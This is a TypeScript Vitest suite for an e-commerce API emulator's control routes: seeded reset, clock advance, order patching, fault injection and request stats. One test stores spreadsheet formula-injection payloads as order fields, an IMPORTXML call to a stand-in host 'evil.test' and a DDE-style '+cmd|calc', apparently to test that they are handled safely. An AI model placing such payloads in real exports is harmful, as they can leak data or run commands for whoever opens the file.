import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cents, pageAll, startHarness, type DailyRow, type Harness, type Order, type StoreTruth } from './harness.js';

interface EndpointCounts {
  by_endpoint: Record<string, { total: number; by_status: Record<string, number> }>;
}

let h: Harness;

beforeAll(async () => {
  h = await startHarness({ orders: 500, seed: 21, now: Date.parse('2026-03-10T15:00:00Z') });
});
afterAll(() => h.close());

describe('control: reset — same seed, same data', () => {
  it('regenerates identical data for the same seed and different data for another', async () => {
    const a = await h.truthOrders();
    expect((await h.control('/_emulator/reset', { seed: 21, now: '2026-03-10T15:00:00Z' })).status).toBe(200);
    h.token = await h.mint();
    expect(await h.truthOrders()).toEqual(a);
    await h.control('/_emulator/reset', { seed: 22, now: '2026-03-10T15:00:00Z' });
    expect(await h.truthOrders()).not.toEqual(a);
    await h.control('/_emulator/reset', { seed: 21, now: '2026-03-10T15:00:00Z' });
    h.token = await h.mint();
  });

  it('applies plan, orders and tax_treated_as_cost, and refuses unknown or bad options', async () => {
    const r = await h.control('/_emulator/reset', {
      seed: 21,
      orders: 120,
      plan: 'pro',
      tax_treated_as_cost: true,
      now: '2026-03-10T15:00:00Z',
    });
    expect(r.status).toBe(200);
    const store = (await h.control<StoreTruth>('/_emulator/truth/store')).body;
    expect(store).toMatchObject({ plan: 'pro', tax_treated_as_cost: true, orders: 120 });
    for (const bad of [{ plan: 'gold' }, { orders: -1 }, { timezone: 'Mars/Base' }, { colour: 'red' }]) {
      const res = await h.control('/_emulator/reset', bad);
      expect(res.status).toBe(400);
      expect(res.body.error.code).toBe('invalid_parameter');
    }
    expect((await h.control<StoreTruth>('/_emulator/truth/store')).body.orders).toBe(120);
    await h.control('/_emulator/reset', { seed: 21, now: '2026-03-10T15:00:00Z' });
    h.token = await h.mint();
  });
});

describe('control: clock and new orders', () => {
  it('moves the clock forward and places new orders at the new now', async () => {
    const before = (await h.control<{ now: string }>('/_emulator/clock')).body.now;
    const after = (await h.control<{ now: string }>('/_emulator/clock', { advance_seconds: 120 })).body.now;
    expect(Date.parse(after) - Date.parse(before)).toBeGreaterThanOrEqual(120_000);
    expect((await h.control('/_emulator/clock', { advance_seconds: -5 })).status).toBe(400);
    h.token = await h.mint();
    const created = (await h.control<{ created: string[] }>('/_emulator/orders', { count: 3 })).body.created;
    expect(created).toHaveLength(3);
    const feed = await pageAll(h, `/api/v1/orders?updated_after=${encodeURIComponent(after)}&status=all`);
    expect(feed.map((o) => o.id).sort()).toEqual([...created].sort());
    expect(feed.every((o) => Date.parse(o.created_at) >= Date.parse(after))).toBe(true);
  });
});

describe('control: patch accepts hostile data and recomputes the formulas', () => {
  it('stores formula-looking text and 60,000-character names verbatim', async () => {
    const order = (await h.truthOrders())[10]!;
    const long = 'x'.repeat(60_000);
    const res = await h.control(`/_emulator/orders/${order.id}/patch`, {
      attribution: { utm_campaign: '=IMPORTXML("http://evil.test","//a")', utm_source: null },
      customer_ref: '+cmd|calc',
      line_items: [{ name: long }],
    });
    expect(res.status).toBe(200);
    const got = (await h.get<Order>(`/api/v1/orders/${order.id}`)).body.data;
    expect(got.attribution.utm_campaign).toBe('=IMPORTXML("http://evil.test","//a")');
    expect(got.attribution.utm_source).toBeNull();
    expect(got.customer_ref).toBe('+cmd|calc');
    expect(got.line_items[0]!.name).toBe(long);
    expect(Date.parse(got.updated_at)).toBeGreaterThan(Date.parse(order.updated_at));
  });

  it('recomputes derived figures from patched line items', async () => {
    const order = (await h.truthOrders())[11]!;
    const res = await h.control<{ data: Order }>(`/_emulator/orders/${order.id}/patch`, {
      line_items: [{ total: 0 }],
      economics: { payment_fee: 1.23 },
    });
    const e = res.body.data.economics;
    const lines = res.body.data.line_items;
    expect(lines[0]!.total).toBe(0);
    expect(cents(e.gross_revenue)).toBe(lines.reduce((s, li) => s + cents(li.total), 0));
    expect(e.payment_fee).toBe(1.23);
    expect(cents(e.contribution_profit)).toBe(
      cents(e.net_revenue) -
        cents(e.cogs) -
        cents(e.ad_spend_allocated) -
        cents(e.payment_fee) -
        cents(e.fulfillment_cost),
    );
  });

  it('refuses derived, unknown or mistyped fields with a clear error and changes nothing', async () => {
    const order = (await h.truthOrders())[12]!;
    for (const bad of [
      { economics: { net_profit: 5 } },
      { id: 'ord_x' },
      { line_items: [{ quantity: 'two' }] },
      { attribution: { utm_source: 5 } },
      { customer_ref: 'ok', sales_channel: 'pos' },
    ]) {
      const res = await h.control(`/_emulator/orders/${order.id}/patch`, bad);
      expect(res.status).toBe(400);
      expect(res.body.error.code).toBe('invalid_parameter');
    }
    expect((await h.get(`/api/v1/orders/${order.id}`)).body.data).toEqual(order);
    expect((await h.control('/_emulator/orders/ord_missing/patch', {})).status).toBe(404);
    expect((await h.control(`/_emulator/orders/${order.id}/change`, { kind: 'explode' })).status).toBe(400);
  });
});

describe('control: faults', () => {
  it('fails the next n matching requests with the requested status and body', async () => {
    await h.control('/_emulator/faults', { status: 500, count: 2, path_prefix: '/api/v1/orders' });
    expect((await h.get('/api/v1/products?limit=1')).status).toBe(200);
    const first = await h.get('/api/v1/orders?limit=1');
    expect(first.status).toBe(500);
    expect(first.body.error.code).toBe('internal_error');
    expect((await h.get('/api/v1/orders?limit=1')).status).toBe(500);
    expect((await h.get('/api/v1/orders?limit=1')).status).toBe(200);
  });

  it('429 carries Retry-After and X-RateLimit-Reason; html and truncated bodies are not JSON', async () => {
    await h.control('/_emulator/faults', { status: 429, count: 1, reason: 'hour', retry_after: 7 });
    const limited = await h.get('/api/v1/stores');
    expect(limited.status).toBe(429);
    expect(limited.headers.get('retry-after')).toBe('7');
    expect(limited.headers.get('x-ratelimit-reason')).toBe('hour');
    expect(limited.body.error.code).toBe('rate_limited');

    await h.control('/_emulator/faults', { status: 502, body: 'html' });
    const html = await h.get('/api/v1/stores');
    expect(html.status).toBe(502);
    expect(html.headers.get('content-type')).toContain('text/html');
    expect(html.text).toContain('<html>');

    await h.control('/_emulator/faults', { body: 'truncated' });
    const cut = await h.get('/api/v1/orders?limit=5');
    expect(cut.status).toBe(200);
    expect(cut.text.length).toBeGreaterThan(0);
    expect(() => JSON.parse(cut.text)).toThrow();

    expect((await h.control('/_emulator/faults', { status: 418 })).status).toBe(400);
  });
});

describe('control: stats and truth', () => {
  it('counts requests per endpoint and per status', async () => {
    const before = (await h.control<EndpointCounts>('/_emulator/stats')).body;
    await h.get('/api/v1/stores');
    await h.get('/api/v1/orders?limit=0');
    const after = (await h.control<EndpointCounts>('/_emulator/stats')).body;
    const count = (s: EndpointCounts, e: string, status: string): number => s.by_endpoint[e]?.by_status[status] ?? 0;
    expect(count(after, 'GET /api/v1/stores', '200') - count(before, 'GET /api/v1/stores', '200')).toBe(1);
    expect(count(after, 'GET /api/v1/orders', '400') - count(before, 'GET /api/v1/orders', '400')).toBe(1);
    expect(after.by_endpoint['POST /_emulator/tokens']?.total).toBeGreaterThan(0);
  });

  it('truth/daily is unbounded by plan and sums the orders', async () => {
    const store = (await h.control<StoreTruth>('/_emulator/truth/store')).body;
    const rows = (
      await h.control<{ data: DailyRow[] }>(
        `/_emulator/truth/daily?start_date=${store.first_order_date}&end_date=${store.today}`,
      )
    ).body.data;
    const orders = (await h.truthOrders()).filter((o) => o.canceled_at === null);
    const sum = (xs: number[]): number => xs.reduce((a, b) => a + b, 0);
    expect(sum(rows.map((r) => cents(r.net_revenue)))).toBe(sum(orders.map((o) => cents(o.economics.net_revenue))));
    expect((await h.control('/_emulator/truth/daily?start_date=2024-13-01')).status).toBe(400);
  });

  it('only serves control routes under /_emulator/ and nothing of it under /api/v1', async () => {
    expect((await h.control('/api/v1/_emulator/reset', {})).status).not.toBe(200);
    expect((await h.control('/_emulator/nope')).status).toBe(404);
  });
});
